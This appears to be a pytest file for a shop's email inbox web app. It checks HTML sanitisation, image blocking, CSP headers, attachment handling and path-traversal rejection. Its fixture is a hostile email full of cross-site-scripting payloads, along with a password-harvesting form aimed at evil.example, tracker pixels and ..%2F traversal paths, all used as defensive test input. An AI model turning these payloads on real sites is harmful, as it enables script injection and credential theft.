"""A customer's email cannot do anything in the maker's browser: its HTML is sanitised (nh3),
remote pictures wait until she asks, attachments and originals are downloads with safe types, and
the page's Content-Security-Policy lets only Banco's own script run."""

# Fixtures imported from fixtures_web are parameters of the tests below, by name.
# ruff: noqa: F811

from __future__ import annotations

import re
from pathlib import Path

import httpx
import pytest
from fixtures_web import (  # noqa: F401 (fixtures)
    Tab,
    browser,
    demo_home,
    demo_server,
    desktop,
    open_shop_at,
    screenshot,
    web_server,
)
from playwright.sync_api import Route, expect

from banco.connectors import Registry
from banco.inbox.clock import FixedClock
from banco.inbox.collect.sync import collect
from banco.inbox.web import RunningServer
from banco.inbox.web.safety import CSP, email_html, sanitise

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HOSTILE = (
    b'From: "<img src=x onerror=window.__pwned=9>" <mallory@evil.example>\r\n'
    b"To: giulia@bottegagiulia.example\r\n"
    b"Subject: <script>window.__pwned=1</script>Ordine urgente\r\n"
    b"Date: Thu, 19 Nov 2026 10:00:00 +0100\r\n"
    b"Message-ID: <hostile@evil.example>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="outer"\r\n'
    b"\r\n"
    b"--outer\r\n"
    b'Content-Type: multipart/alternative; boundary="inner"\r\n'
    b"\r\n"
    b"--inner\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Ciao, vorrei dodici tazze <script>window.__pwned=2</script>\r\n"
    b"--inner\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n"
    b"\r\n"
    b'<html><head><style>body{background:url("https://tracker.example/css.gif")}'
    b" p{width:expression(alert(1))}</style>"
    b'<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
    b'</head><body onload="window.__pwned=3">'
    b"<script>window.__pwned=4; alert('pwned')</script>"
    b"<p>Vorrei <b>dodici</b> tazze blu.</p>"
    b'<img src="x" onerror="window.__pwned=5">'
    b'<img src="https://tracker.example/pixel.gif" alt="logo">'
    b'<a id="js" href="javascript:window.__pwned=6">clicca qui</a> '
    b'<a id="ok" href="https://shop.example/catalogo">catalogo</a>'
    b'<iframe src="javascript:window.parent.__pwned=7"></iframe>'
    b"<svg><script>window.__pwned=8</script></svg>"
    b'<div style="background-image:url(javascript:window.__pwned=10)">stile</div>'
    b'<form action="https://evil.example/steal"><input name="password"><button>Invia</button></form>'
    b'<object data="javascript:window.__pwned=11"></object>'
    b'<a href="/orders/B-0001/status">relative</a>'
    b"</body></html>\r\n"
    b"--inner--\r\n"
    b"--outer\r\n"
    b'Content-Type: text/html; name="fattura.html"\r\n'
    b'Content-Disposition: attachment; filename="fattura.html"\r\n'
    b"\r\n"
    b"<script>window.__pwned=20</script>\r\n"
    b"--outer\r\n"
    b'Content-Type: image/svg+xml; name="logo.svg"\r\n'
    b'Content-Disposition: attachment; filename="logo.svg"\r\n'
    b"\r\n" + SVG + b"\r\n"
    b"--outer--\r\n"
)
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)


@pytest.fixture
def hostile(demo_home: Path, clock: FixedClock, registry: Registry) -> int:
    """The demo shop with one hostile email collected into it; returns its message id."""
    (demo_home / "Maildir" / "new" / "1795597200.M99P1.hostile").write_bytes(HOSTILE)
    shop = open_shop_at(demo_home, clock, registry)
    try:
        [result, _] = collect(shop)
        assert result.ok, result.error
        return int(shop.store.scalar("select id from messages where external_id like '%hostile'"))
    finally:
        shop.close()


# The sanitiser on its own -------------------------------------------------------------------------
def test_the_sanitiser_keeps_the_words_and_drops_everything_that_runs() -> None:
    html = email_html(HOSTILE)
    assert html is not None and "dodici" in html
    clean = sanitise(html)
    assert "<b>dodici</b>" in clean.html
    for bad in ("<script", "onload", "onerror", "javascript:", "<iframe", "<form", "<input",
                "<object", "<style", "<base", "<meta", "expression(", "style=", "<svg",
                "tracker.example", "/orders/B-0001"):  # fmt: skip
        assert bad not in clean.html, bad
    assert clean.blocked_images == 1
    assert 'href="https://shop.example/catalogo"' in clean.html
    assert 'rel="noopener noreferrer nofollow"' in clean.html


def test_remote_pictures_only_when_asked() -> None:
    html = '<img src="https://cdn.example/a.png"><img src="data:image/png;base64,AAAA"><img src="cid:x@y">'
    hidden = sanitise(html)
    assert hidden.blocked_images == 1
    assert "cdn.example" not in hidden.html and "data:image/png;base64,AAAA" in hidden.html
    shown = sanitise(html, remote_images=True)
    assert 'src="https://cdn.example/a.png"' in shown.html and "cid:" not in shown.html
    assert "data:image/svg" not in sanitise('<img src="data:image/svg+xml;base64,AAAA">').html


def test_an_email_without_html_or_unreadable_has_no_formatted_view() -> None:
    assert email_html(b"Subject: hi\r\n\r\nplain text") is None
    assert email_html(b"") is None
    assert email_html(b"\x00\xff garbage") is None


# In the browser -----------------------------------------------------------------------------------
def test_a_hostile_email_runs_nothing(
    hostile: int, demo_server: RunningServer, desktop: Tab
) -> None:
    page = desktop.go(f"{demo_server.url}/messages/{hostile}")
    expect(page.locator("h1")).to_have_text("<script>window.__pwned=1</script>Ordine urgente")
    expect(page.locator(".message-text")).to_contain_text("<script>window.__pwned=2</script>")
    page.get_by_role("link", name="Show as the sender formatted it").click()
    expect(page.locator(".email-html b")).to_have_text("dodici")
    expect(page.locator(".notice")).to_contain_text("1 picture from the internet is not shown")
    page.get_by_text("clicca qui").click()  # its javascript: link is gone: nothing happens
    for tag in ("script", "iframe", "form", "input", "object", "svg", "style"):
        expect(page.locator(f".email-html {tag}")).to_have_count(0)
    screenshot(desktop, "formatted-hostile-desktop")
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert desktop.dialogs == [] and desktop.errors == []
    assert not [url for url in desktop.requests if not url.startswith(demo_server.url)]

    # She asks for the pictures: the remote one loads, still nothing runs.
    pixels: list[str] = []

    def fake_remote(route: Route) -> None:
        pixels.append(route.request.url)
        route.fulfill(status=200, content_type="image/gif", body=GIF)

    page.route(re.compile(r"https://tracker\.example/.*"), fake_remote)
    with page.expect_response(re.compile(r"/formatted\?images=1$")) as answer:
        page.get_by_role("link", name="Load pictures").click()
    assert "img-src 'self' data: https: http:" in answer.value.headers["content-security-policy"]
    expect(page.locator(".email-html img[alt=logo]")).to_have_js_property("complete", True)
    assert pixels == ["https://tracker.example/pixel.gif"]
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert desktop.dialogs == [] and desktop.errors == []


def test_the_page_policy_blocks_inline_script(demo_server: RunningServer, desktop: Tab) -> None:
    """Even if something slipped through, the browser would not run it: only /static/app.js."""
    page = desktop.go(demo_server.url + "/")
    page.evaluate(
        """() => { const s = document.createElement('script');
                   s.textContent = 'window.__pwned = 1'; document.body.append(s); }"""
    )
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert any("Content Security Policy" in e for e in desktop.errors)


# Over HTTP ----------------------------------------------------------------------------------------
def test_pages_send_the_safety_headers(demo_server: RunningServer) -> None:
    answer = httpx.get(demo_server.url + "/")
    assert answer.headers["content-security-policy"] == CSP
    assert "script-src 'self'" in CSP and "img-src 'self' data:" in CSP
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["referrer-policy"] == "same-origin"
    static = httpx.get(demo_server.url + "/static/app.js")
    assert static.headers["content-type"].startswith("text/javascript")
    assert "no-store" not in static.headers.get("cache-control", "")


def attachment(home: Path, clock: FixedClock, registry: Registry, filename: str) -> str:
    shop = open_shop_at(home, clock, registry)
    try:
        return str(
            shop.store.scalar("select sha256 from attachments where filename = ?", [filename])
        )
    finally:
        shop.close()


@pytest.mark.parametrize(
    ("filename", "query", "kind", "disposition"),
    [
        ("Biscuit on the sofa.jpg", "", "image/jpeg", "inline"),
        ("Biscuit on the sofa.jpg", "?download=1", "image/jpeg", "attachment"),
        ("logo-caffè-definitivo.pdf", "", "application/octet-stream", "attachment"),
        ("fattura.html", "", "application/octet-stream", "attachment"),
        ("logo.svg", "", "application/octet-stream", "attachment"),
    ],
)
def test_attachments_are_served_safely(
    hostile: int,
    demo_server: RunningServer,
    demo_home: Path,
    clock: FixedClock,
    registry: Registry,
    filename: str,
    query: str,
    kind: str,
    disposition: str,
) -> None:
    sha = attachment(demo_home, clock, registry, filename)
    answer = httpx.get(f"{demo_server.url}/files/{sha}{query}")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == kind
    assert answer.headers["content-disposition"].startswith(f"{disposition}; filename=")
    assert "filename*=UTF-8''" in answer.headers["content-disposition"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]


def test_files_are_found_by_their_hash_only(demo_server: RunningServer, demo_home: Path) -> None:
    (demo_home / "attachments" / "ab").mkdir(exist_ok=True)
    loose = "ab" + "0" * 62
    (demo_home / "attachments" / "ab" / loose).write_bytes(b"not an attachment of any message")
    for path in (
        f"/files/{loose}",  # on disk, but no message has it
        "/files/" + "f" * 64,
        "/files/..%2Fbanco.db",
        "/files/..%2F..%2Fbanco.toml",
        "/files/24AC74130806AE02D7E4EE72881B977601999C6C9F94EE1545ED4830459B737F",
    ):
        answer = httpx.get(demo_server.url + path)
        assert answer.status_code == 404, path
        assert b"SQLite" not in answer.content and b"[shop]" not in answer.content


def test_the_original_message_is_a_download(hostile: int, demo_server: RunningServer) -> None:
    answer = httpx.get(f"{demo_server.url}/messages/{hostile}/original")
    assert answer.status_code == 200
    assert answer.content == HOSTILE
    assert answer.headers["content-type"] == "message/rfc822"
    assert answer.headers["content-disposition"].startswith(
        f'attachment; filename="message-{hostile}.eml"'
    )
    form = httpx.get(f"{demo_server.url}/messages/40/original")
    assert form.headers["content-type"] == "application/json"
    assert form.headers["content-disposition"].startswith('attachment; filename="message-40.json"')
